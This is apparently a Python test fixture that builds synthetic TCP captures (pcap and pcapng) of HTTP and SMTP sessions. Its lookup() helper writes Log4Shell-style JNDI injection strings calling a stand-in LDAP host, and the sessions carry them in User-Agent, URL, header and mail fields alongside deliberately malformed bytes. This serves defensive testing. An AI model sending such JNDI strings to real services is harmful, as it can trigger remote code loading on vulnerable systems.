"""Makes captures: TCP conversations told in words, and the files they lie in."""

import struct

import harness  # noqa: F401  (its folders are searched for frames)
import frames

CLIENT = ("198.51.100.7", 40000)
SERVER = ("192.0.2.10", 80)
START_US = 1639350256000000  # 2021-12-12
WINDOW = 65535
OPENER = "$" + "{"
ETHER = bytes.fromhex("0200000000020200000000010800")
ETHER_BACK = bytes.fromhex("0200000000010200000000020800")


def lookup(name, scheme="ldap"):
    """A look-up, in bytes, that calls back to 203.0.113.9/name."""
    return f"{OPENER}jndi:{scheme}://203.0.113.9:1389/{name}}}".encode()


def address(text):
    return bytes(map(int, text.split(".")))


class Talk:
    """A TCP conversation; parts are its segments in order, one every millisecond."""

    def __init__(self, client=CLIENT, server=SERVER, start_us=START_US, isn=(1000, 900000)):
        self.ends = (client, server)
        self.time_us = start_us
        self.seq = list(isn)
        self.parts = []

    def send(self, side, flags, payload=b""):
        """One segment: side 0 is the client."""
        here, there = self.ends[side], self.ends[1 - side]
        ip = (bytes([0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, 6, 0, 0]) + address(here[0])
              + address(there[0]))
        first = flags & frames.SYN and not flags & frames.ACK
        self.parts.append(frames.Segment(
            self.time_us, ETHER_BACK if side else ETHER, ip, here[1], there[1], self.seq[side],
            0 if first else self.seq[1 - side], flags, WINDOW, b"", payload))
        self.seq[side] += len(payload) + bool(flags & (frames.SYN | frames.FIN))
        self.time_us += 1000
        return self

    def open(self):
        self.send(0, frames.SYN).send(1, frames.SYN | frames.ACK)
        return self.send(0, frames.ACK)

    def say(self, side, content, size=1400):
        """Payload from one side, acknowledged by the other before its window is full."""
        unread = 0
        for at in range(0, len(content), size):
            piece = content[at:at + size]
            if unread + len(piece) > WINDOW:
                self.send(1 - side, frames.ACK)
                unread = 0
            self.send(side, frames.PSH | frames.ACK, piece)
            unread += len(piece)
        return self.send(1 - side, frames.ACK)

    def client(self, content, size=1400):
        return self.say(0, content, size)

    def server(self, content, size=1400):
        return self.say(1, content, size)

    def close(self):
        self.send(0, frames.FIN | frames.ACK).send(1, frames.FIN | frames.ACK)
        return self.send(0, frames.ACK)

    @property
    def frames(self):
        return [frames.build(part) for part in self.parts]


def request(url="/", headers=(), body=b"", method="GET", host=b"shop.example"):
    """An HTTP request, as bytes. headers: (name, value) in bytes."""
    lines = [f"{method} ".encode() + (url if isinstance(url, bytes) else url.encode())
             + b" HTTP/1.1", b"Host: " + host]
    lines += [name + b": " + value for name, value in headers]
    if body:
        lines.append(b"Content-Length: %d" % len(body))
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def response(body=b"ok", headers=()):
    lines = [b"HTTP/1.1 200 OK", b"Content-Type: text/plain", b"Content-Length: %d" % len(body)]
    lines += [name + b": " + value for name, value in headers]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def exchange(client=CLIENT, start_us=START_US, url="/", agent=b"curl/7.88", server=SERVER):
    """A conversation of one request and its answer: 10 segments."""
    return (Talk(client, server, start_us).open()
            .client(request(url, [(b"User-Agent", agent)])).server(response()).close())


def good(n=3, first_port=40000, start_us=START_US):
    """The frames of n conversations one after the other, an attack in the User-Agent of each:
    /good/0 …, 10 packets each."""
    made = []
    for i in range(n):
        talk = exchange((CLIENT[0], first_port + i), start_us + i * 100000, f"/good/{i}",
                        lookup(f"good-{i}"))
        made += talk.frames
    return made


PER_EXCHANGE = 10


def hostile():
    """Every byte, and what reorders or ends lines on a screen, in every place there is."""
    every = (bytes(range(256)) + "\u202e\u2066\u2028\xad\ufeff\U000e0041".encode()
             + b"\xed\xa0\x80\xc0\xaf")
    header = every.replace(b"\n", b"").replace(b"\r", b"")
    word = header.replace(b" ", b"").replace(b"\0", b"").replace(b":", b"")
    talk = Talk().open()
    talk.client(b"GET /" + word + b"?" + lookup("x") + word + b" HTTP/1.1\r\nHost: " + header
                + b"\r\nUser-Agent: " + header + lookup("y") + b"\r\nX-" + word + b": "
                + header + b"\r\nContent-Length: 0\r\n\r\n")
    talk.client(request("/" + "l" * 40000, [(b"User-Agent", lookup("z") * 30),
                                                  (b"Referer", b"r" * 30000)]))
    talk.server(response(headers=[(b"Server", header)])).close()
    mail = Talk(server=("192.0.2.25", 25), start_us=START_US + 1000000).open()
    for side, text in ((1, b"220 " + header + b"\r\n"), (0, b"EHLO " + header + b"\r\n"),
                       (1, b"250 ok\r\n"), (0, b"MAIL FROM:<" + word + b"@a>\r\n"),
                       (1, b"250 ok\r\n"), (0, b"RCPT TO:<" + word + b"@b>\r\n"),
                       (1, b"250 ok\r\n"), (0, b"DATA\r\n"), (1, b"354 go\r\n"),
                       (0, b"Subject: " + header + lookup("s") + b"\r\nFrom: " + header
                        + b"\r\n\r\n" + header + b"\r\n.\r\n"), (1, b"250 ok\r\n")):
        mail.say(side, text)
    return talk.frames + mail.close().frames


def pcap(packets, link_type=frames.ETHERNET, order="<", snaplen=262144):
    """A classic pcap, as bytes."""
    out = [struct.pack(order + "IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, snaplen, link_type)]
    out += [record(frame, order) for frame in packets]
    return b"".join(out)


def record(frame, order="<"):
    sec, usec = divmod(frame.time_us, 1000000)
    return struct.pack(order + "IIII", sec, usec, len(frame.data),
                       max(len(frame.data), frame.wire_len)) + frame.data


def block(kind, body):
    """A block of a pcapng."""
    body += bytes(-len(body) % 4)
    length = struct.pack("<I", len(body) + 12)
    return struct.pack("<I", kind) + length + body + length


def pcapng(link_types, packets):
    """A pcapng with an interface for each link type; packets are (interface, frame)."""
    out = [block(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1))]
    out += [block(1, struct.pack("<HHI", link_type, 0, 262144)) for link_type in link_types]
    for interface, frame in packets:
        out.append(block(6, struct.pack("<IIIII", interface, frame.time_us >> 32,
                                        frame.time_us & 0xFFFFFFFF, len(frame.data),
                                        max(len(frame.data), frame.wire_len)) + frame.data))
    return b"".join(out)
